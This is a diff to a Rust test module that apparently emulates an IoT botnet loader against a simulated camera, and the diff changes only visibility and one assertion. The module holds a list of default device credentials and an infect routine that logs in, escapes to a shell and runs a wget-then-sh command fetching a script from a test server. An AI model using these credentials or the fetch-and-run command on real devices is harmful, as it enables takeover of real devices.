@@ -10,14 +10,14 @@ use std::collections::HashMap;
 use std::time::{Duration, Instant};
 
 /// Credentials of the camera persona, tried in a bot's order.
-pub const CAMERA_CREDENTIALS: &[(&str, &str)] =
+pub(crate) const CAMERA_CREDENTIALS: &[(&str, &str)] =
     &[("admin", "7ujMko0admin"), ("root", "vizxv"), ("root", "xmhdipc")];
 
 /// The promise of the whole circle: from the download's end to the device.
 const LIMIT: Duration = Duration::from_secs(5);
 
 /// A distribution server with a loader's script and a bot for it.
-pub fn distribution_server(contacts: &Contacts) -> FileServer {
+pub(crate) fn distribution_server(contacts: &Contacts) -> FileServer {
     let elf = elf_arm(contacts);
     FileServer::start(|base| {
         HashMap::from([
@@ -28,7 +28,7 @@ pub fn distribution_server(contacts: &Contacts) -> FileServer {
 }
 
 /// A loader's dialogue: log-in, probes, download and start of the script.
-pub fn infect(bot: &mut Bot, server: &FileServer) {
+pub(crate) fn infect(bot: &mut Bot, server: &FileServer) {
     bot.log_in(CAMERA_CREDENTIALS);
     for line in ["enable", "system", "shell", "sh"] {
         bot.say(line);
@@ -38,7 +38,7 @@ pub fn infect(bot: &mut Bot, server: &FileServer) {
     assert!(bot.run("cat /proc/mounts").contains(" / "), "a device has mounts");
     let base = server.url();
     let output = bot.run(&format!("cd /tmp; wget {base}/bins.sh -O bins.sh && sh bins.sh"));
-    assert!(!output.contains("not found\n"), "the script's commands are there: {output}");
+    assert!(output.contains("100%"), "the device shows the download: {output}");
 }
 
 #[test]
